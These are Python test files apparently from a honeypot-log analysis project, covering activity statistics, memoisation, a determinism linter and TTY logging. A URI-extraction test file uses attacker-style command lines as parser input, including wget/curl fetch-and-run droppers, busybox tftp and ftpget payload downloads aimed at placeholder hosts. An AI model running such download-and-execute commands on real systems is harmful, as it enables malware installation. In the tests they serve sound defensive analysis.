        taken = col.take(np.asarray(idx, dtype=np.int64))
        assert list(taken) == [lists[i] for i in idx]

    @given(lists=hash_lists)
    @settings(max_examples=60, deadline=None)
    def test_remap_matches_python_map(self, lists):
        col = HashIdColumn.from_lists(lists)
        mapping = np.arange(1_001, dtype=np.int64)[::-1]
        remapped = col.remap(mapping)
        assert list(remapped) == [
            tuple(int(mapping[h]) for h in t) for t in lists
        ]

    def test_negative_indexing_and_offsets(self):
        col = HashIdColumn.from_lists([(1,), (), (2, 3)])
        assert col[-1] == (2, 3)
        assert col.offsets.tolist() == [0, 1, 1, 3]
        assert col.lengths.tolist() == [1, 0, 2]
