"""Tests for per-honeypot activity analysis (Figure 2)."""

import numpy as np
import pytest

from repro.core.activity import (
    ActivitySummary,
    activity_knee,
    max_min_ratio,
    sessions_per_honeypot,
    sorted_activity,
    top_k_share,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def build_store(pot_sessions):
    """A store with the given number of sessions per honeypot id."""
    builder = StoreBuilder()
    for pot, count in pot_sessions.items():
        for i in range(count):
            builder.append(SessionRecord(
                start_time=float(i), duration=1.0, honeypot_id=pot,
                protocol="ssh", client_ip=i, client_asn=1, client_country="US",
                n_login_attempts=0, login_success=False,
            ))
    return builder.build()


class TestCounts:
    def test_sessions_per_honeypot(self):
        store = build_store({"a": 3, "b": 1})
        counts = sessions_per_honeypot(store)
        assert sorted(counts.tolist()) == [1, 3]

    def test_sorted_descending(self):
        store = build_store({"a": 1, "b": 5, "c": 3})
        assert sorted_activity(store).tolist() == [5, 3, 1]

    def test_mask(self):
        store = build_store({"a": 4})
        mask = np.zeros(4, dtype=bool)
        mask[0] = True
        assert sessions_per_honeypot(store, mask).tolist() == [1]


class TestShares:
    def test_top_k_share(self):
        counts = np.array([50, 30, 10, 10])
        assert top_k_share(counts, 1) == 0.5
        assert top_k_share(counts, 2) == 0.8

    def test_top_k_share_empty(self):
        assert top_k_share(np.zeros(5, dtype=int)) == 0.0

    def test_max_min_ratio(self):
        assert max_min_ratio(np.array([30, 3, 1])) == 30.0

    def test_max_min_ignores_zeros(self):
        assert max_min_ratio(np.array([10, 5, 0])) == 2.0

    def test_max_min_empty(self):
        assert max_min_ratio(np.zeros(3, dtype=int)) == 0.0


class TestKnee:
    def test_clear_knee(self):
        # 10 heavy pots then a flat tail -> knee near 10.
        counts = np.array([1000] * 10 + [10] * 100)
        knee = activity_knee(counts)
        assert 8 <= knee <= 12

    def test_uniform_no_strong_knee(self):
        counts = np.full(50, 100)
        assert 1 <= activity_knee(counts) <= 50

    def test_few_points(self):
        assert activity_knee(np.array([5, 3])) == 2

    def test_zeros_excluded(self):
        counts = np.array([100] * 5 + [1] * 20 + [0] * 10)
        assert activity_knee(counts) <= 25


class TestSummary:
    def test_compute(self):
        store = build_store({"a": 60, "b": 30, "c": 2})
        summary = ActivitySummary.compute(store)
        assert summary.total_sessions == 92
        assert summary.max_sessions == 60
        assert summary.min_sessions == 2
        assert summary.max_min_ratio == 30.0

    def test_on_generated_dataset(self, small_store):
        summary = ActivitySummary.compute(small_store)
        # The paper's headline skew properties hold in shape.
        assert summary.max_min_ratio > 5
        assert 0.05 < summary.top10_share < 0.35
