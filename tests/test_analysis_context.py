"""AnalysisContext: store-or-context equivalence and memoization."""

from __future__ import annotations

import numpy as np
import pytest

from repro.core import classify, clients, durations, hashes, tables, timeseries
from repro.core.context import AnalysisContext, as_context, as_store
from repro.core.report import full_report


def test_as_context_passthrough_and_wrap(small_store):
    ctx = AnalysisContext(small_store)
    assert as_context(ctx) is ctx
    assert as_context(small_store).store is small_store
    assert as_store(ctx) is small_store
    assert as_store(small_store) is small_store


def test_context_memoizes_derived_state(small_store):
    ctx = AnalysisContext(small_store)
    assert ctx.category_codes is ctx.category_codes
    assert ctx.category_mask(3) is ctx.category_mask(3)
    assert ctx.hash_occurrences is ctx.hash_occurrences
    assert ctx.hash_stats is ctx.hash_stats
    assert ctx.daily_totals is ctx.daily_totals
    assert ctx.pots_per_client is ctx.pots_per_client
    assert ctx.days_per_client is ctx.days_per_client


def test_context_results_match_plain_store(small_dataset):
    """Every analysis returns the same values through a shared context."""
    store = small_dataset.store
    ctx = AnalysisContext.from_dataset(small_dataset)

    np.testing.assert_array_equal(
        ctx.category_codes, classify.classify_store(store))
    assert classify.category_shares(ctx) == classify.category_shares(store)
    assert tables.table1_categories(ctx) == tables.table1_categories(store)

    via_ctx = clients.clients_overall_summary(ctx)
    via_store = clients.clients_overall_summary(store)
    assert via_ctx == via_store

    for key, series in timeseries.category_fractions_over_time(ctx).items():
        np.testing.assert_array_equal(
            series, timeseries.category_fractions_over_time(store)[key])

    assert durations.duration_ecdfs(ctx).ecdfs.keys() == \
        durations.duration_ecdfs(store).ecdfs.keys()

    occ = hashes.HashOccurrences.build(store)
    np.testing.assert_array_equal(ctx.hash_occurrences.session_idx,
                                  occ.session_idx)
    np.testing.assert_array_equal(ctx.hash_occurrences.hash_id, occ.hash_id)


def test_full_report_accepts_prebuilt_context(small_dataset):
    ctx = AnalysisContext.from_dataset(small_dataset)
    report = full_report(small_dataset, ctx)
    assert report["table1"].overall == \
        tables.table1_categories(small_dataset.store).overall


def test_full_report_computes_each_intermediate_once(small_dataset, monkeypatch):
    """One report = one classification pass and one occurrence build."""
    calls = {"classify": 0, "occurrences": 0}

    real_classify = classify.classify_store
    real_build = hashes.HashOccurrences.build

    def counting_classify(store):
        calls["classify"] += 1
        return real_classify(store)

    def counting_build(store):
        calls["occurrences"] += 1
        return real_build(store)

    monkeypatch.setattr(classify, "classify_store", counting_classify)
    monkeypatch.setattr(hashes.HashOccurrences, "build", counting_build)

    full_report(small_dataset)
    assert calls == {"classify": 1, "occurrences": 1}


def test_hash_tables_supports_attribute_and_key_access(small_dataset):
    labels = {c.primary_hash: c.campaign_id
              for c in small_dataset.campaigns if c.primary_hash}
    result = tables.tables_4_5_6(small_dataset.store, small_dataset.intel,
                                 labels)
    assert isinstance(result, tables.HashTables)
    assert result["by_sessions"] is result.by_sessions
    assert result["by_clients"] is result.by_clients
    assert result["by_days"] is result.by_days
    assert [k for k, _ in result.items()] == list(tables.HashTables.KEYS)
    with pytest.raises(KeyError):
        result["by_pots"]
