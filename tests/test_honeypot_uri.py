"""Tests for URI extraction from command lines."""

from repro.honeypot.uri import extract_uris, has_uri


class TestUrlDetection:
    def test_http(self):
        assert extract_uris("wget http://198.51.100.7/bins.sh") == [
            "http://198.51.100.7/bins.sh"
        ]

    def test_https(self):
        assert extract_uris("curl https://evil.example/x.sh") == [
            "https://evil.example/x.sh"
        ]

    def test_ftp_scheme(self):
        assert extract_uris("wget ftp://h.example/payload") == ["ftp://h.example/payload"]

    def test_multiple_urls_deduped(self):
        uris = extract_uris(
            "wget http://a.example/x || wget http://a.example/x; wget http://b.example/y"
        )
        assert uris == ["http://a.example/x", "http://b.example/y"]

    def test_no_uri(self):
        assert extract_uris("uname -a") == []
        assert not has_uri("cat /proc/cpuinfo")

    def test_url_mid_command(self):
        assert extract_uris("cd /tmp && wget http://x.example/a.sh && sh a.sh") == [
            "http://x.example/a.sh"
        ]


class TestToolForms:
    def test_tftp_busybox_style(self):
        assert extract_uris("tftp -g -r mips 203.0.113.9") == ["tftp://203.0.113.9/mips"]

    def test_tftp_with_local_name(self):
        uris = extract_uris("tftp -g -l bot -r mips.bin 203.0.113.9")
        assert uris == ["tftp://203.0.113.9/mips.bin"]

    def test_tftp_no_host(self):
        assert extract_uris("tftp -g -r file") == []

    def test_ftpget(self):
        uris = extract_uris("ftpget -u anonymous -p pass 203.0.113.9 local.bin remote.bin")
        assert uris == ["ftp://203.0.113.9/remote.bin"]

    def test_ftpget_two_positional(self):
        uris = extract_uris("ftpget 203.0.113.9 file.bin")
        assert uris == ["ftp://203.0.113.9/file.bin"]

    def test_scp_remote_path(self):
        uris = extract_uris("scp user@198.51.100.5:/tmp/payload .")
        assert uris == ["scp://user@198.51.100.5//tmp/payload"]

    def test_plain_command_named_like_tool(self):
        # "wget" with no URL-ish argument records nothing.
        assert extract_uris("wget") == []

    def test_non_fetch_tool_with_host_arg(self):
        assert extract_uris("ping 8.8.8.8") == []

    def test_absolute_path_tool(self):
        assert extract_uris("/usr/bin/wget http://x.example/f") == ["http://x.example/f"]

    def test_unparseable_quotes_fall_back(self):
        # Unbalanced quotes must not crash extraction.
        assert extract_uris('echo "unterminated http://x.example/f') == [
            "http://x.example/f"
        ]
