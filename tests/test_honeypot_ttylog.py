"""Tests for TTY transcript logging and replay."""

import pytest

from repro.honeypot.protocol import Protocol
from repro.honeypot.session import HoneypotSession
from repro.honeypot.ttylog import TtyDirection, TtyLog, attach_ttylog


class TestTtyLog:
    def test_record_order(self):
        log = TtyLog("s1")
        log.record_input(1.0, "uname -a")
        log.record_output(1.1, "Linux ...")
        assert len(log) == 2
        assert log.entries[0].direction is TtyDirection.INPUT
        assert log.entries[1].direction is TtyDirection.OUTPUT

    def test_empty_output_skipped(self):
        log = TtyLog("s1")
        log.record_output(1.0, "")
        assert len(log) == 0

    def test_duration(self):
        log = TtyLog("s1")
        log.record_input(5.0, "a")
        log.record_input(12.5, "b")
        assert log.duration == 7.5
        assert TtyLog("s2").duration == 0.0

    def test_input_lines(self):
        log = TtyLog("s1")
        log.record_input(1.0, "first")
        log.record_output(1.1, "resp")
        log.record_input(2.0, "second")
        assert log.input_lines == ["first", "second"]

    def test_dump_load_roundtrip(self, tmp_path):
        log = TtyLog("s42")
        log.record_input(1.0, "wget http://x/y")
        log.record_output(1.5, "saved")
        path = tmp_path / "session.tty"
        log.dump(path)
        loaded = TtyLog.load(path)
        assert loaded.session_id == "s42"
        assert loaded.entries == log.entries

    def test_replay_instant(self):
        log = TtyLog("s1")
        log.record_input(1.0, "ls")
        log.record_output(1.1, "bin  tmp")
        chunks = []
        count = log.replay(chunks.append)
        assert count == 2
        assert chunks == ["$ ls\n", "bin  tmp\n"]

    def test_replay_timed(self):
        log = TtyLog("s1")
        log.record_input(0.0, "a")
        log.record_input(10.0, "b")
        delays = []
        log.replay(lambda _: None, speed=2.0, sleep=delays.append)
        assert delays == [5.0]  # 10s gap at 2x speed


class TestAttach:
    def test_live_session_transcription(self):
        session = HoneypotSession(
            honeypot_id="h", honeypot_ip=1, protocol=Protocol.SSH,
            client_ip=2, client_port=3, start_time=0.0,
        )
        session.try_login("root", "pw", 0.5)
        log = attach_ttylog(session)
        session.input_line("uname -a; free", 1.0)
        assert "uname -a; free" in log.input_lines
        outputs = [e.data for e in log if e.direction is TtyDirection.OUTPUT]
        assert any("Linux" in o for o in outputs)
        assert any("Mem" in o for o in outputs)

    def test_attach_preserves_session_behaviour(self):
        session = HoneypotSession(
            honeypot_id="h", honeypot_ip=1, protocol=Protocol.SSH,
            client_ip=2, client_port=3, start_time=0.0,
        )
        session.try_login("root", "pw", 0.5)
        attach_ttylog(session)
        result = session.input_line("echo x > /tmp/f", 1.0)
        assert result.file_changes
        assert session.commands == ["echo x > /tmp/f"]
