"""Unit tests for the determinism & invariant linter (repro.lint).

Every rule family is driven through its fixture triple under
``tests/lint_fixtures/``: the *bad* snippet must trigger, the
*suppressed* snippet must be silenced by inline ``# repro: lint-ok``
comments, and the *clean* snippet (the sanctioned idiom) must pass.  On
top of that: suppression placement semantics, baseline round-trips, the
JSON output schema, layer allowlists, registry-name checking (literal and
dynamic), and the CLI surface.
"""

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest

from repro.lint import (
    BaselineRatchetError,
    DataflowAnalysis,
    FileContext,
    Finding,
    ProjectGraph,
    apply_baseline,
    collect_suppressions,
    load_baseline,
    run_lint,
    select_rules,
    to_json,
    to_sarif,
    validate_sarif,
    write_baseline,
)
from repro.lint.cli import main as lint_main
from repro.lint.findings import JSON_SCHEMA_VERSION
from repro.obs import names as obs_names

FIXTURES = Path(__file__).parent / "lint_fixtures"
REPO_ROOT = Path(__file__).resolve().parent.parent

RULE_IDS = (
    "global-random",
    "wall-clock",
    "unordered-iter",
    "mutable-default",
    "bare-except",
    "unsorted-listing",
    "registry-names",
    "determinism-flow",
    "rng-lineage",
    "worker-boundary",
)

#: rule id -> (fixture stem, findings expected from the bad snippet)
EXPECTED_BAD = {
    "global-random": ("global_random", 3),
    "wall-clock": ("wall_clock", 2),
    "unordered-iter": ("unordered_iter", 3),
    "mutable-default": ("mutable_default", 2),
    "bare-except": ("bare_except", 1),
    "unsorted-listing": ("unsorted_listing", 3),
    "registry-names": ("registry_names", 3),
    "determinism-flow": ("determinism_flow", 2),
    "rng-lineage": ("rng_lineage", 3),
    "worker-boundary": ("worker_boundary", 3),
}


def _lint_fixture(name: str):
    return run_lint([FIXTURES / f"{name}.py"], baseline=None)


# -- per-rule fixture triples --------------------------------------------------


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_bad_fixture_triggers(rule_id):
    stem, expected = EXPECTED_BAD[rule_id]
    result = _lint_fixture(f"{stem}_bad")
    of_rule = [f for f in result.findings if f.rule == rule_id]
    assert len(of_rule) == expected, result.findings
    assert all(f.rule == rule_id for f in result.findings), (
        "bad fixtures must trigger only their own rule"
    )
    for finding in of_rule:
        assert finding.line > 0
        assert finding.message
        assert finding.hint


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_suppressed_fixture_is_silent(rule_id):
    stem, expected = EXPECTED_BAD[rule_id]
    result = _lint_fixture(f"{stem}_suppressed")
    assert result.findings == []
    assert result.suppressed == expected


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_clean_fixture_passes(rule_id):
    stem, _ = EXPECTED_BAD[rule_id]
    result = _lint_fixture(f"{stem}_clean")
    assert result.findings == []
    assert result.suppressed == 0, "clean fixtures need no suppressions"


# -- suppression semantics -----------------------------------------------------


def test_suppression_same_line_and_standalone():
    source = (
        "import time  # repro: lint-ok[wall-clock]\n"
        "# repro: lint-ok[wall-clock]\n"
        "from time import perf_counter\n"
    )
    sup = collect_suppressions(source)
    assert sup[1] == frozenset({"wall-clock"})
    assert sup[3] == frozenset({"wall-clock"})  # standalone covers next line


def test_suppression_bare_covers_all_rules_and_lists_split():
    sup = collect_suppressions("x = 1  # repro: lint-ok\n")
    assert "*" in sup[1]
    sup = collect_suppressions("x = 1  # repro: lint-ok[a, b]\n")
    assert sup[1] == frozenset({"a", "b"})


def test_suppression_only_silences_named_rule(tmp_path):
    bad = tmp_path / "wrong_rule.py"
    bad.write_text("import time  # repro: lint-ok[bare-except]\n")
    result = run_lint([bad], baseline=None)
    assert [f.rule for f in result.findings] == ["wall-clock"]


# -- layer allowlists ----------------------------------------------------------


def test_obs_layer_may_read_time(tmp_path):
    obs = tmp_path / "src" / "repro" / "obs"
    obs.mkdir(parents=True)
    (obs / "timing.py").write_text("import time\n")
    assert run_lint([obs], baseline=None).findings == []


def test_store_layer_may_not_read_time(tmp_path):
    store = tmp_path / "src" / "repro" / "store"
    store.mkdir(parents=True)
    (store / "fastpath.py").write_text("import time\n")
    findings = run_lint([store], baseline=None).findings
    assert [f.rule for f in findings] == ["wall-clock"]


def test_rng_module_may_use_numpy_random(tmp_path):
    sim = tmp_path / "src" / "repro" / "simulation"
    sim.mkdir(parents=True)
    (sim / "rng.py").write_text(
        "import numpy as np\n"
        "gen = np.random.Generator(np.random.PCG64(7))\n"
    )
    assert run_lint([sim], baseline=None).findings == []


# -- baseline ------------------------------------------------------------------


def test_baseline_roundtrip_absorbs_known_findings(tmp_path):
    bad = FIXTURES / "mutable_default_bad.py"
    fresh = run_lint([bad], baseline=None)
    assert len(fresh.findings) == 2

    baseline_file = tmp_path / "baseline.json"
    write_baseline(baseline_file, fresh.findings)
    loaded = load_baseline(baseline_file)
    assert sum(loaded.values()) == 2

    absorbed = run_lint([bad], baseline=baseline_file)
    assert absorbed.findings == []
    assert absorbed.baselined == 2


def test_baseline_reports_only_new_findings():
    old = Finding("pkg/x.py", 3, 0, "bare-except", "bare `except:`")
    new = Finding("pkg/x.py", 9, 0, "bare-except", "bare `except:`")
    other = Finding("pkg/y.py", 1, 0, "wall-clock", "import of `time`")
    fresh, absorbed = apply_baseline(
        [new, old, other], {"pkg/x.py::bare-except": 1}
    )
    # One x.py finding absorbed (first in source order), the rest survive.
    assert absorbed == 1
    assert fresh == [Finding("pkg/x.py", 9, 0, "bare-except", "bare `except:`"),
                     other]


def test_missing_baseline_file_is_empty(tmp_path):
    assert load_baseline(tmp_path / "nope.json") == {}


def test_bad_baseline_version_rejected(tmp_path):
    p = tmp_path / "bad.json"
    p.write_text('{"version": 99, "findings": {}}')
    with pytest.raises(ValueError):
        load_baseline(p)


# -- JSON output schema --------------------------------------------------------


def test_json_output_schema_is_stable():
    result = _lint_fixture("bare_except_bad")
    payload = json.loads(to_json(result.findings, baselined=result.baselined))
    assert set(payload) == {"version", "findings", "counts", "total",
                            "baselined"}
    assert payload["version"] == JSON_SCHEMA_VERSION == 1
    assert payload["total"] == 1
    assert payload["counts"] == {"bare-except": 1}
    (finding,) = payload["findings"]
    assert set(finding) == {"path", "line", "col", "rule", "message", "hint"}
    assert finding["rule"] == "bare-except"
    assert finding["line"] == 7


def test_json_findings_sorted_by_location_then_rule():
    """JSON output orders findings by (path, line, col, rule) — never by
    message text or input order — so reports diff-stable across
    filesystems and directory-walk orders."""
    scrambled = [
        Finding("b.py", 3, 0, "wall-clock", "zzz last message"),
        Finding("a.py", 9, 4, "wall-clock", "mid"),
        Finding("b.py", 3, 0, "bare-except", "aaa first message"),
        Finding("a.py", 2, 0, "unordered-iter", "x"),
        Finding("a.py", 2, 0, "global-random", "y"),
    ]
    for perm in (scrambled, scrambled[::-1]):
        payload = json.loads(to_json(list(perm)))
        keys = [(f["path"], f["line"], f["col"], f["rule"])
                for f in payload["findings"]]
        assert keys == sorted(keys)
    assert keys == [
        ("a.py", 2, 0, "global-random"),
        ("a.py", 2, 0, "unordered-iter"),
        ("a.py", 9, 4, "wall-clock"),
        ("b.py", 3, 0, "bare-except"),
        ("b.py", 3, 0, "wall-clock"),
    ]


# -- registry names ------------------------------------------------------------


def test_every_honeypot_event_kind_is_declared():
    from repro.honeypot.events import EventType

    for event_type in EventType:
        assert obs_names.is_declared(
            event_type.value, obs_names.TRACE_KINDS
        ), f"EventType.{event_type.name} missing from obs.names.TRACE_KINDS"


def test_is_declared_exact_and_wildcard():
    assert obs_names.is_declared("cache.hits", obs_names.COUNTERS)
    assert obs_names.is_declared("farm.alerts.rate-drift", obs_names.COUNTERS)
    assert not obs_names.is_declared("cache.hitz", obs_names.COUNTERS)


def test_prefix_may_match_dynamic_heads():
    assert obs_names.prefix_may_match("farm.alerts.", obs_names.COUNTERS)
    assert obs_names.prefix_may_match("generator.sessions.", obs_names.COUNTERS)
    assert not obs_names.prefix_may_match("nope.alerts.", obs_names.COUNTERS)


def test_every_sketch_instrument_is_declared():
    # The streaming-analytics consumer's instrument names must stay in
    # sync with the obs.names registry (the lint gate enforces this for
    # literal call sites; this pins the contract at the API level too).
    for name in ("sketch.sessions_observed", "sketch.events_consumed",
                 "sketch.store_sessions_ingested", "sketch.merges"):
        assert obs_names.is_declared(name, obs_names.COUNTERS), name
    for name in ("sketch.unique.clients", "sketch.unique.hashes"):
        assert obs_names.is_declared(name, obs_names.GAUGES), name
    assert obs_names.is_declared("sketch/ingest", obs_names.SPANS)


def test_every_block_engine_instrument_is_declared():
    # The block emission engine's instrument names (repro.workload.blocks)
    # must stay in sync with the obs.names registry, same contract as the
    # sketch families above.
    for name in ("emit.block.buffered_blocks", "emit.block.buffered_rows",
                 "emit.block.flushes", "emit.block.rows"):
        assert obs_names.is_declared(name, obs_names.COUNTERS), name
    assert obs_names.is_declared("emit.block.flush", obs_names.SPANS)


def test_undeclared_block_engine_counter_fails_lint(tmp_path):
    p = tmp_path / "blocks_ext.py"
    p.write_text(
        "from repro.obs import get_metrics\n"
        "def f():\n"
        "    get_metrics().inc('emit.block.bogus')\n"
    )
    result = run_lint([p], rules=select_rules(["registry-names"]),
                      baseline=None)
    assert [f.rule for f in result.findings] == ["registry-names"]
    assert "emit.block.bogus" in result.findings[0].message


def test_undeclared_sketch_family_member_fails_lint(tmp_path):
    # A sketch.* counter nobody declared must be a registry-names finding
    # — new instrument families ride through obs.names, not ad hoc.
    p = tmp_path / "analytics_ext.py"
    p.write_text(
        "from repro.obs import get_metrics\n"
        "def f():\n"
        "    get_metrics().inc('sketch.bogus_family')\n"
    )
    result = run_lint([p], rules=select_rules(["registry-names"]),
                      baseline=None)
    assert [f.rule for f in result.findings] == ["registry-names"]
    assert "sketch.bogus_family" in result.findings[0].message


def test_every_observability_pr_instrument_is_declared():
    # Ledger accounting, per-task resource telemetry and the worker
    # heartbeat protocol all record through declared families — same
    # registry-sync contract as the sketch/block families above.
    for name in ("ledger.tasks", "ledger.alerts", "ledger.writes",
                 "ledger.records", "sched.heartbeat.received",
                 "sched.heartbeat.stale"):
        assert obs_names.is_declared(name, obs_names.COUNTERS), name
    assert obs_names.is_declared("sched.heartbeat.rss_kb_peak",
                                 obs_names.GAUGES)
    for name in ("resource.task_cpu_seconds", "resource.task_max_rss_kb",
                 "resource.task_gc_pause_seconds",
                 "resource.task_gc_collections"):
        assert obs_names.is_declared(name, obs_names.HISTOGRAMS), name
    for kind in ("sched.heartbeat.worker", "sched.heartbeat.stale"):
        assert obs_names.is_declared(kind, obs_names.TRACE_KINDS), kind


def test_every_description_pattern_names_a_declared_family():
    # DESCRIPTIONS feeds Prometheus # HELP lines; a description for a
    # pattern that is not in the matching family is a stale entry.
    for family, patterns in obs_names.DESCRIPTIONS.items():
        declared = obs_names.FAMILIES[family]
        for pattern in patterns:
            assert pattern in declared, (family, pattern)


def test_describe_exact_wildcard_and_unknown():
    assert obs_names.describe("counter", "ledger.tasks")  # via ledger.*
    exact = obs_names.describe("counter", "cache.hits")
    assert exact == obs_names.DESCRIPTIONS["counter"]["cache.hits"]
    assert obs_names.describe("counter", "no.such.name") == ""


def test_undeclared_ledger_family_member_fails_lint(tmp_path):
    p = tmp_path / "ledger_ext.py"
    p.write_text(
        "from repro.obs import get_metrics\n"
        "def f():\n"
        "    get_metrics().inc('ledger.bogus')\n"
    )
    result = run_lint([p], rules=select_rules(["registry-names"]),
                      baseline=None)
    # ledger.* is a declared wildcard family: any member passes.
    assert result.findings == []
    p2 = tmp_path / "ledger_bad.py"
    p2.write_text(
        "from repro.obs import get_metrics\n"
        "def f():\n"
        "    get_metrics().inc('ledgerz.bogus')\n"
    )
    result = run_lint([p2], rules=select_rules(["registry-names"]),
                      baseline=None)
    assert [f.rule for f in result.findings] == ["registry-names"]
    assert "ledgerz.bogus" in result.findings[0].message


def test_registry_rule_ignores_non_instrument_calls(tmp_path):
    p = tmp_path / "not_metrics.py"
    p.write_text(
        "class Q:\n"
        "    def emit(self, kind):\n"
        "        return kind\n"
        "def f(q, hist):\n"
        "    hist.observe(0.5)\n"       # float arg: not a name
        "    return q\n"
    )
    result = run_lint([p], rules=select_rules(["registry-names"]),
                      baseline=None)
    assert result.findings == []


# -- call graph + taint engine -------------------------------------------------


def _graph_of(tmp_path, files):
    """Build a ProjectGraph from {package-relative path: source}."""
    contexts = []
    for rel, source in sorted(files.items()):
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(source)
        contexts.append(FileContext(
            path=path.as_posix(), rel=rel,
            tree=ast.parse(source), source=source,
        ))
    return ProjectGraph.build(contexts)


def test_call_graph_cross_module_resolution_and_reachability(tmp_path):
    graph = _graph_of(tmp_path, {
        "workload/emit.py": (
            "from repro.store.build import append_row\n"
            "def produce(builder, value):\n"
            "    append_row(builder, value)\n"
        ),
        "store/build.py": (
            "def append_row(builder, value):\n"
            "    builder.append_block('col', value)\n"
        ),
    })
    produce = "repro.workload.emit:produce"
    target = "repro.store.build:append_row"
    assert produce in graph.functions and target in graph.functions
    assert target in graph.reachable([produce])


def test_call_graph_cycles_converge(tmp_path):
    graph = _graph_of(tmp_path, {
        "a.py": (
            "import os\n"
            "def ping(n, builder):\n"
            "    if n <= 0:\n"
            "        builder.append_block('col', os.getenv('X'))\n"
            "    return pong(n - 1, builder)\n"
            "def pong(n, builder):\n"
            "    return ping(n, builder)\n"
        ),
    })
    ping = "repro.a:ping"
    reach = graph.reachable([ping])
    assert "repro.a:pong" in reach and ping in reach
    # The taint fixpoint must terminate on the mutual recursion and
    # still report the flow inside the cycle.
    findings = DataflowAnalysis(graph).run()
    assert [f.kind for f in findings] == ["env-read"]


def test_call_graph_dynamic_dispatch_fallback(tmp_path):
    graph = _graph_of(tmp_path, {
        "plugins.py": (
            "class Npz:\n"
            "    def flush(self):\n"
            "        return 1\n"
            "class Jsonl:\n"
            "    def flush(self):\n"
            "        return 2\n"
            "def drain(sink):\n"
            "    return sink.flush()\n"
        ),
    })
    drain = graph.functions["repro.plugins:drain"]
    (site,) = [s for s in drain.calls if s.targets]
    assert set(site.targets) == {
        "repro.plugins:Npz.flush", "repro.plugins:Jsonl.flush",
    }
    assert site.dynamic


def test_taint_sanitizer_layer_trusts_obs(tmp_path):
    files = {
        "obs/timing.py": (
            "import time\n"
            "def now_seconds():\n"
            "    return time.time()\n"
        ),
        "store/build.py": (
            "from repro.obs.timing import now_seconds\n"
            "def write(builder):\n"
            "    builder.append_block('col', now_seconds())\n"
        ),
    }
    graph = _graph_of(tmp_path, files)
    assert DataflowAnalysis(graph).run() == []
    # The identical helper outside a sanitizer layer is a finding.
    files["workload/timing.py"] = files.pop("obs/timing.py")
    files["store/build.py"] = files["store/build.py"].replace(
        "repro.obs.timing", "repro.workload.timing")
    graph = _graph_of(tmp_path / "unsanitized", files)
    findings = DataflowAnalysis(graph).run()
    assert [f.kind for f in findings] == ["wall-clock"]


def test_taint_finding_carries_source_to_sink_path(tmp_path):
    graph = _graph_of(tmp_path, {
        "workload/stamp.py": (
            "import os\n"
            "def read_stamp():\n"
            "    return os.getenv('HOSTNAME')\n"
            "def relay():\n"
            "    return read_stamp()\n"
        ),
        "store/build.py": (
            "from repro.workload.stamp import relay\n"
            "def write(builder):\n"
            "    builder.append_block('origin', relay())\n"
        ),
    })
    (finding,) = DataflowAnalysis(graph).run()
    # The message renders the full call path, source frame to sink frame.
    assert "os.getenv" in finding.message
    assert "read_stamp" in finding.message
    assert "relay" in finding.message
    assert "write" in finding.message
    assert " -> " in finding.message
    assert finding.path.endswith("store/build.py")


def test_taint_sorted_strips_fs_order(tmp_path):
    graph = _graph_of(tmp_path, {
        "workload/scan.py": (
            "import os\n"
            "def write(builder, root):\n"
            "    builder.append_block('files', sorted(os.listdir(root)))\n"
        ),
    })
    assert DataflowAnalysis(graph).run() == []


# -- baseline ratchet ----------------------------------------------------------


def test_write_baseline_ratchet_refuses_growth(tmp_path):
    first = Finding("pkg/x.py", 3, 0, "bare-except", "m")
    second = Finding("pkg/x.py", 9, 0, "bare-except", "m")
    p = tmp_path / "baseline.json"
    write_baseline(p, [first])                      # fresh file: allowed
    with pytest.raises(BaselineRatchetError) as excinfo:
        write_baseline(p, [first, second])
    assert excinfo.value.grown == {"pkg/x.py::bare-except": (1, 2)}
    write_baseline(p, [first, second], force=True)  # explicit new debt
    assert sum(load_baseline(p).values()) == 2
    write_baseline(p, [first])                      # shrinking: always fine
    assert sum(load_baseline(p).values()) == 1
    write_baseline(p, [])                           # dropping keys too
    assert load_baseline(p) == {}


def test_cli_write_baseline_ratchet(tmp_path, capsys):
    clean = str(FIXTURES / "bare_except_clean.py")
    bad = str(FIXTURES / "bare_except_bad.py")
    baseline = str(tmp_path / "baseline.json")
    assert lint_main([clean, "--baseline", baseline,
                      "--write-baseline"]) == 0
    capsys.readouterr()
    assert lint_main([bad, "--baseline", baseline, "--write-baseline"]) == 2
    assert "ratchet" in capsys.readouterr().err
    assert lint_main([bad, "--baseline", baseline, "--write-baseline",
                      "--force"]) == 0


# -- SARIF output --------------------------------------------------------------


def test_sarif_output_validates_and_crossreferences(capsys):
    bad = str(FIXTURES / "determinism_flow_bad.py")
    assert lint_main([bad, "--no-baseline", "--format", "sarif"]) == 1
    payload = json.loads(capsys.readouterr().out)
    assert validate_sarif(payload) == []
    (run,) = payload["runs"]
    declared = [r["id"] for r in run["tool"]["driver"]["rules"]]
    assert "determinism-flow" in declared
    results = run["results"]
    assert len(results) == 2
    for result in results:
        assert result["ruleId"] == "determinism-flow"
        assert declared[result["ruleIndex"]] == "determinism-flow"
        region = result["locations"][0]["physicalLocation"]["region"]
        assert region["startLine"] >= 1 and region["startColumn"] >= 1
        assert " -> " in result["message"]["text"]


def test_sarif_handles_pseudo_rules(tmp_path):
    p = tmp_path / "broken.py"
    p.write_text("def f(:\n")
    result = run_lint([p], baseline=None)
    payload = json.loads(to_sarif(result.findings, select_rules([])))
    assert validate_sarif(payload) == []
    assert payload["runs"][0]["results"][0]["ruleId"] == "syntax-error"


def test_sarif_validator_catches_problems():
    assert validate_sarif({"version": "2.1.0"})  # missing runs/$schema
    payload = {
        "$schema": "x", "version": "2.1.0",
        "runs": [{
            "tool": {"driver": {"name": "t", "rules": [{"id": "a"}]}},
            "results": [{
                "ruleId": "b", "ruleIndex": 0, "level": "fatal",
                "message": {},
                "locations": [{"physicalLocation": {
                    "artifactLocation": {"uri": "f.py"},
                    "region": {"startLine": 0},
                }}],
            }],
        }],
    }
    problems = "\n".join(validate_sarif(payload))
    assert "not declared" in problems
    assert "level" in problems
    assert "message.text" in problems
    assert "startLine" in problems


# -- rule selection ------------------------------------------------------------


def test_select_rules_unknown_id_raises():
    with pytest.raises(ValueError):
        select_rules(["no-such-rule"])


def test_rules_filter_limits_findings():
    bad = FIXTURES / "global_random_bad.py"
    only_wall = run_lint([bad], rules=select_rules(["wall-clock"]),
                         baseline=None)
    assert only_wall.findings == []


